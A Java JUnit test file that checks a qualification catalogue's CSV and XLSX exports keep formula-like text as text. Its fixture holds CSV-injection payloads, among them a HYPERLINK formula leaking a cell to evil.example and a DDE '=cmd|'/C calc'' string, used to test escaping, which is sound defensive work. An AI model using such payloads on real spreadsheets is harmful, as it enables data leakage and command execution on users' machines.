package io.qualspec.generators.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.PrintSetup;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import io.qualspec.catalogue.Catalogue;
import io.qualspec.catalogue.ResolvedQualification;
import io.qualspec.generators.tables.StructureTables;
import io.qualspec.testing.Examples;
import io.qualspec.testing.HandbookTables;
import io.qualspec.testing.Repository;

/**
 * Structure tables as CSV and XLSX, read back with Commons CSV and POI: the SFJ structure, the whole
 * catalogue, numbers as numbers, and text that would start a spreadsheet formula kept as text.
 */
class StructureTablesTest {

	/** Titles, sector codes, references and labels a spreadsheet would read as formulas. */
	private static final String INJECTION = """
			use evil.units
			awarding organisation EVIL "Evil Awards" { }
			unit library evil.units "Units with hostile titles" {
				unit A/506/2130 "=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"Click me\\")" { level 2 credits 5 glh 27 assessment internal }
				unit F/506/2131 "+1" { level 2 credits 2 glh 17 }
				unit M/617/4417 "-2" { level 2 credits 3 glh 22 }
				unit L/506/1788 "@SUM(A1)" { level 2 credits 4 glh 18 }
				unit D/506/2119 "\\tTabbed" { level entry credits 1 glh 10 }
				unit T/506/2126 "\\rReturn" { level 1 credits 1 glh 10 }
				unit T/617/4418 "A title with = inside" { level 3 credits 1 glh 10 }
			}
			qualification 603/4767/3 "Hostile qualification" {
				awarded by EVIL
				group A "-Mandatory" mandatory {
					unit 1 = A/506/2130 reference "=2+3" sector "@A1"
					unit 2 = F/506/2131 reference "+44 114 284 1970"
					unit 3 = M/617/4417
					unit 4 = L/506/1788
				}
				group B "Optional" optional {
					unit 5 = D/506/2119
					unit 6 = T/506/2126
					unit 7 = T/617/4418 reference "Safe title;=cmd|'/C calc'!A0"
				}
			}
			""";

	/** The columns of the structure table, as its documentation (StructureTables) lists them. */
	private static final List<String> STRUCTURE_COLUMNS = List.of("QN", "Group", "Group label", "Group kind", "Unit no",
			"Sector code", "AO reference", "URN", "Title", "Credits", "Level", "GLH", "Assessment");

	/** The columns of the unit list. */
	private static final List<String> UNIT_COLUMNS = List.of("URN", "Title", "Level", "Credits", "GLH", "Assessment",
			"Grade scale", "Learning outcomes", "Assessment criteria", "Library", "Qualifications");

	private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1",
			"-2", "@SUM(A1)", "\tTabbed", "\rReturn");

	// ------------------------------------------------------------------------------------------ CSV

	@Test
	void theSfjStructureAsCsv() throws IOException {
		ResolvedQualification sfj = Examples.qualification(ExportFixtures.SFJ);
		StringWriter out = new StringWriter();
		StructureTables.writeCsv(sfj, out);
		String csv = out.toString();
		assertTrue(csv.startsWith("QN,Group,Group label,Group kind,Unit no,Sector code,AO reference,URN,Title,Credits,Level,GLH,Assessment\r\n"),
				"RFC 4180: CRLF line ends");
		List<CSVRecord> records = parse(csv);
		assertEquals(23, records.size());
		CSVRecord first = records.get(0);
		assertEquals(List.of("603/4767/3", "A", "Mandatory Group A", "mandatory", "", "", "882", "A/506/2130",
				"Deliver customer service", "5", "2", "27", "Internal"), first.toList());
		assertEquals(14, records.stream().filter(r -> r.get("Group").equals("A")).mapToInt(r -> Integer.parseInt(r.get("Credits"))).sum());
		assertEquals(List.of("A", "B"), records.stream().map(r -> r.get("Group")).distinct().toList());
		assertEquals(STRUCTURE_COLUMNS, header(csv));
	}

	@Test
	void theCatalogueAsCsv() throws IOException {
		Catalogue catalogue = Examples.catalogue();
		StringWriter structure = new StringWriter();
		StructureTables.writeCsv(catalogue, structure);
		List<CSVRecord> rows = parse(structure.toString());
		assertEquals(handbookRows() + otherExampleRows(), rows.size());
		// the 11 seed qualifications, both CIPD qualifications and the BTEC Certificate (the other BTEC sizes and
		// the Access to HE Diploma list no units)
		assertEquals(14, rows.stream().map(r -> r.get("QN")).distinct().count());
		// a Cambridge Technical unit: no group, no credits, no level
		CSVRecord ct = rows.stream().filter(r -> r.get("URN").equals("R/615/5441")).findFirst().orElseThrow();
		assertEquals(List.of("603/2730/3", "", "", "", "1", "", "", "R/615/5441",
				"Principles of working in service sector organisations", "", "", "60", "External"), ct.toList());
		// contact centre tables print sector unit numbers
		assertTrue(rows.stream().anyMatch(r -> r.get("QN").equals("600/2336/3") && r.get("Sector code").equals("CS A1")));

		StringWriter units = new StringWriter();
		StructureTables.writeUnitsCsv(catalogue, units);
		List<CSVRecord> unitRows = parse(units.toString());
		assertEquals(writtenUnits(), unitRows.size());
		assertEquals(UNIT_COLUMNS, header(units.toString()));
		CSVRecord deliver = unitRows.stream()
				.filter(r -> r.get("URN").equals("A/506/2130") && r.get("Library").equals("cfa.customerservice")).findFirst()
				.orElseThrow();
		assertEquals("5", deliver.get("Learning outcomes"));
		assertEquals("20", deliver.get("Assessment criteria"));
		assertTrue(deliver.get("Qualifications").contains("603/4767/3"), deliver.get("Qualifications"));
	}

	@Test
	void textThatWouldStartAFormulaGetsAnApostropheInCsv() throws IOException {
		ResolvedQualification hostile = hostile();
		StringWriter out = new StringWriter();
		StructureTables.writeCsv(hostile, out);
		List<CSVRecord> rows = parse(out.toString());
		assertEquals(7, rows.size());
		List<String> titles = rows.stream().map(r -> r.get("Title")).toList();
		for (int i = 0; i < HOSTILE.size(); i++) {
			assertEquals("'" + HOSTILE.get(i), titles.get(i));
		}
		assertEquals("A title with = inside", titles.get(6));
		assertEquals("'-Mandatory", rows.get(0).get("Group label"));
		assertEquals("'=2+3", rows.get(0).get("AO reference"));
		assertEquals("'@A1", rows.get(0).get("Sector code"));
		assertEquals("'+44 114 284 1970", rows.get(1).get("AO reference"));
		// a formula after a separator: a spreadsheet splitting the cell at ';' would start one
		assertEquals("'Safe title;=cmd|'/C calc'!A0", rows.get(6).get("AO reference"));
		// numbers are not text: no apostrophe
		assertEquals(List.of("5", "2", "3", "4", "1", "1", "1"), rows.stream().map(r -> r.get("Credits")).toList());
		assertEquals("Entry", rows.get(4).get("Level"));

		StringWriter units = new StringWriter();
		StructureTables.writeUnitsCsv(hostile, units);
		assertEquals("'" + HOSTILE.get(0), parse(units.toString()).get(0).get("Title"));

		assertEquals("'-2", StructureTables.csvText("-2"));
		assertEquals("'@x", StructureTables.csvText("@x"));
		assertEquals("'\t", StructureTables.csvText("\t"));
		assertEquals("2", StructureTables.csvText("2"));
		assertEquals("", StructureTables.csvText(""));
		assertEquals(" =1", StructureTables.csvText(" =1"));
		assertEquals("'a, =1", StructureTables.csvText("a, =1"));
		assertEquals("'\"x\"+1", StructureTables.csvText("\"x\"+1"));
		assertEquals("'a;@b", StructureTables.csvText("a;@b"));
		assertEquals("Health, safety and security", StructureTables.csvText("Health, safety and security"));
		assertEquals("Deliver customer service - level 2", StructureTables.csvText("Deliver customer service - level 2"));
	}

	// ------------------------------------------------------------------------------------------ XLSX

	@Test
	void theSfjWorkbookRoundTrips() throws IOException {
		ResolvedQualification sfj = Examples.qualification(ExportFixtures.SFJ);
		try (XSSFWorkbook workbook = xlsx(sfj)) {
			assertEquals(2, workbook.getNumberOfSheets());
			Sheet structure = workbook.getSheet("Structure");
			Sheet units = workbook.getSheet("Units");
			assertNotNull(structure);
			assertNotNull(units);

			Row header = structure.getRow(0);
			assertEquals(STRUCTURE_COLUMNS, strings(header));
			assertTrue(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold(), "bold header");
			// the header row is frozen (read from the sheet's XML: the API's PaneInformation is in a package this
			// bundle does not import)
			String sheetXml = part(xlsxBytes(sfj), "xl/worksheets/sheet1.xml");
			Matcher pane = Pattern.compile("<pane [^>]*>").matcher(sheetXml);
			assertTrue(pane.find(), "a pane");
			assertTrue(pane.group().contains("ySplit=\"1.0\"") && pane.group().contains("state=\"frozen\"")
					&& pane.group().contains("topLeftCell=\"A2\"") && !pane.group().contains("xSplit=\"1"), pane.group());
			assertTrue(sheetXml.contains("<autoFilter ref=\"A1:M24\"/>"), "a filter on the header");
			int titleColumn = STRUCTURE_COLUMNS.indexOf("Title");
			assertTrue(structure.getColumnWidth(titleColumn) > structure.getColumnWidth(0), "widths follow the content");

			assertEquals(23, structure.getLastRowNum());
			Row first = structure.getRow(1);
			assertEquals("A/506/2130", first.getCell(STRUCTURE_COLUMNS.indexOf("URN")).getStringCellValue());
			assertEquals("Deliver customer service", first.getCell(titleColumn).getStringCellValue());
			for (String numeric : List.of("Credits", "Level", "GLH")) {
				Cell cell = first.getCell(STRUCTURE_COLUMNS.indexOf(numeric));
				assertEquals(CellType.NUMERIC, cell.getCellType(), numeric);
			}
			assertEquals(5, first.getCell(STRUCTURE_COLUMNS.indexOf("Credits")).getNumericCellValue());
			assertEquals(CellType.STRING, first.getCell(STRUCTURE_COLUMNS.indexOf("AO reference")).getCellType(),
					"a reference of digits stays text");
			// the same rows as the CSV
			StringWriter csv = new StringWriter();
			StructureTables.writeCsv(sfj, csv);
			List<CSVRecord> records = parse(csv.toString());
			for (int r = 0; r < records.size(); r++) {
				assertEquals(records.get(r).toList(), cellTexts(structure.getRow(r + 1), STRUCTURE_COLUMNS.size()));
			}

			assertEquals(UNIT_COLUMNS, strings(units.getRow(0)));
			assertEquals(23, units.getLastRowNum());
			assertEquals(20, units.getRow(1).getCell(UNIT_COLUMNS.indexOf("Assessment criteria")).getNumericCellValue());
		}
	}

	/**
	 * The structure of 500/8625/X (OCR Customer Service NVQ, the longest table) prints one A4 landscape page
	 * wide with its header row on every page, and its sizes are whole numbers.
	 */
	@Test
	void theWorkbookPrintsOnePageWideWithTheHeaderOnEveryPage() throws IOException {
		try (XSSFWorkbook workbook = xlsx(Examples.qualification("500/8625/X"))) {
			for (Sheet sheet : workbook) {
				PrintSetup print = sheet.getPrintSetup();
				assertTrue(print.getLandscape(), sheet.getSheetName());
				assertEquals(PrintSetup.A4_PAPERSIZE, print.getPaperSize());
				assertTrue(sheet.getFitToPage());
				assertEquals(1, print.getFitWidth());
				assertEquals(0, print.getFitHeight());
				assertEquals("1:1", sheet.getRepeatingRows().formatAsString());
			}
			Sheet structure = workbook.getSheet("Structure");
			Row first = structure.getRow(1);
			assertEquals("F/601/1609", first.getCell(STRUCTURE_COLUMNS.indexOf("URN")).getStringCellValue());
			DataFormatter shown = new DataFormatter();
			for (Map.Entry<String, Integer> expected : Map.of("Credits", 4, "Level", 1, "GLH", 30).entrySet()) {
				Cell cell = first.getCell(STRUCTURE_COLUMNS.indexOf(expected.getKey()));
				assertEquals(CellType.NUMERIC, cell.getCellType(), expected.getKey());
				assertEquals(expected.getValue().doubleValue(), cell.getNumericCellValue());
				assertEquals("0", cell.getCellStyle().getDataFormatString(), expected.getKey());
				assertEquals(expected.getValue().toString(), shown.formatCellValue(cell), "shown as a whole number");
			}
			Cell title = first.getCell(STRUCTURE_COLUMNS.indexOf("Title"));
			assertEquals(CellType.STRING, title.getCellType());
			assertTrue(title.getCellStyle().getWrapText(), "long titles wrap rather than widen the page");
		}
	}

	@Test
	void theCatalogueWorkbook() throws IOException {
		Catalogue catalogue = Examples.catalogue();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		StructureTables.writeXlsx(catalogue, out);
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
			assertEquals(handbookRows() + otherExampleRows(), workbook.getSheet("Structure").getLastRowNum());
			assertEquals(writtenUnits(), workbook.getSheet("Units").getLastRowNum());
			assertNoFormulas(workbook);
		}
	}

	@Test
	void textThatWouldStartAFormulaStaysTextInXlsx() throws IOException {
		try (XSSFWorkbook workbook = xlsx(hostile())) {
			assertNoFormulas(workbook);
			Sheet structure = workbook.getSheet("Structure");
			int title = STRUCTURE_COLUMNS.indexOf("Title");
			for (int i = 0; i < HOSTILE.size(); i++) {
				Cell cell = structure.getRow(i + 1).getCell(title);
				assertEquals(CellType.STRING, cell.getCellType());
				assertEquals(HOSTILE.get(i), cell.getStringCellValue(), "the value itself is unchanged");
				assertTrue(cell.getCellStyle().getQuotePrefixed(), "shown and edited as text: " + HOSTILE.get(i));
			}
			Cell plain = structure.getRow(7).getCell(title);
			assertEquals("A title with = inside", plain.getStringCellValue());
			assertFalse(plain.getCellStyle().getQuotePrefixed());
			Cell separated = structure.getRow(7).getCell(STRUCTURE_COLUMNS.indexOf("AO reference"));
			assertEquals(CellType.STRING, separated.getCellType());
			assertEquals("Safe title;=cmd|'/C calc'!A0", separated.getStringCellValue());
			assertTrue(separated.getCellStyle().getQuotePrefixed());
			Row first = structure.getRow(1);
			for (Map.Entry<String, String> expected : Map.of("Group label", "-Mandatory", "AO reference", "=2+3",
					"Sector code", "@A1").entrySet()) {
				Cell cell = first.getCell(STRUCTURE_COLUMNS.indexOf(expected.getKey()));
				assertEquals(CellType.STRING, cell.getCellType());
				assertEquals(expected.getValue(), cell.getStringCellValue());
				assertTrue(cell.getCellStyle().getQuotePrefixed());
			}
			Cell credits = first.getCell(STRUCTURE_COLUMNS.indexOf("Credits"));
			assertEquals(CellType.NUMERIC, credits.getCellType());
			assertEquals(5, credits.getNumericCellValue());
			assertEquals("Entry", structure.getRow(5).getCell(STRUCTURE_COLUMNS.indexOf("Level")).getStringCellValue());

			Cell unitTitle = workbook.getSheet("Units").getRow(1)
					.getCell(UNIT_COLUMNS.indexOf("Title"));
			assertEquals(CellType.STRING, unitTitle.getCellType());
			assertEquals(HOSTILE.get(0), unitTitle.getStringCellValue());
		}
	}

	// ------------------------------------------------------------------------------------------ helpers

	/** One structure row for each row of the handbooks' unit tables. */
	private static int handbookRows() {
		return HandbookTables.all().stream().mapToInt(table -> table.rows().size()).sum();
	}

	/**
	 * The structure rows of the examples the seed transcriptions do not cover: one per membership line ("unit 1 =
	 * ...") in their files.
	 */
	private static long otherExampleRows() throws IOException {
		Pattern membership = Pattern.compile("^\\s*unit \\S+ = ", Pattern.MULTILINE);
		long rows = 0;
		for (Path file : Repository.exampleFiles()) {
			if (!file.toString().contains("/ocr/") && !file.toString().contains("/sfj/") && !file.toString().contains("/shared/")) {
				rows += membership.matcher(Files.readString(file)).results().count();
			}
		}
		return rows;
	}

	/**
	 * One unit row for each unit the examples' libraries describe (a line "unit L/ddd/dddd "title"", or "unit code
	 * "5CO01" "title"").
	 */
	private static long writtenUnits() throws IOException {
		Pattern description = Pattern.compile("^\\s*unit ([A-Z]/\\d{3}/\\d{4}|code \"[^\"]+\") \"", Pattern.MULTILINE);
		long units = 0;
		for (Path file : Repository.exampleFiles()) {
			units += description.matcher(Files.readString(file)).results().count();
		}
		return units;
	}

	private static ResolvedQualification hostile() {
		Catalogue catalogue = ExportFixtures.loadText(INJECTION);
		ResolvedQualification qualification = catalogue.qualifications().get(0);
		assertEquals(7, qualification.memberships().size());
		qualification.memberships().forEach(m -> assertNotNull(m.unit(), "every unit resolves"));
		assertEquals(HOSTILE.get(0), qualification.memberships().get(0).unit().title());
		return qualification;
	}

	private static List<CSVRecord> parse(String csv) throws IOException {
		CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
		try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
			return parser.getRecords();
		}
	}

	private static List<String> header(String csv) throws IOException {
		CSVFormat format = CSVFormat.RFC4180.builder().setHeader().get();
		try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
			return parser.getHeaderNames();
		}
	}

	private static byte[] xlsxBytes(ResolvedQualification qualification) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		StructureTables.writeXlsx(qualification, out);
		return out.toByteArray();
	}

	private static XSSFWorkbook xlsx(ResolvedQualification qualification) throws IOException {
		return new XSSFWorkbook(new ByteArrayInputStream(xlsxBytes(qualification)));
	}

	/** A part of an OOXML package as text. */
	private static String part(byte[] zipped, String name) throws IOException {
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(zipped))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				if (entry.getName().equals(name)) {
					return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
				}
			}
		}
		throw new AssertionError("no " + name);
	}

	private static void assertNoFormulas(XSSFWorkbook workbook) {
		for (Sheet sheet : workbook) {
			for (Row row : sheet) {
				for (Cell cell : row) {
					assertTrue(cell.getCellType() == CellType.STRING || cell.getCellType() == CellType.NUMERIC,
							() -> sheet.getSheetName() + " row " + cell.getRowIndex() + " column " + cell.getColumnIndex()
									+ " is " + cell.getCellType());
				}
			}
		}
	}

	private static List<String> strings(Row row) {
		List<String> values = new ArrayList<>();
		for (Cell cell : row) {
			values.add(cell.getStringCellValue());
		}
		return values;
	}

	/** A row's cells as text: numbers as integers, blanks empty (the SFJ texts start no formula, so CSV writes them as they are). */
	private static List<String> cellTexts(Row row, int columns) {
		List<String> values = new ArrayList<>();
		for (int c = 0; c < columns; c++) {
			Cell cell = row.getCell(c);
			if (cell == null) {
				values.add("");
			} else if (cell.getCellType() == CellType.NUMERIC) {
				values.add(String.valueOf((long) cell.getNumericCellValue()));
			} else {
				values.add(cell.getStringCellValue());
			}
		}
		return values;
	}
}
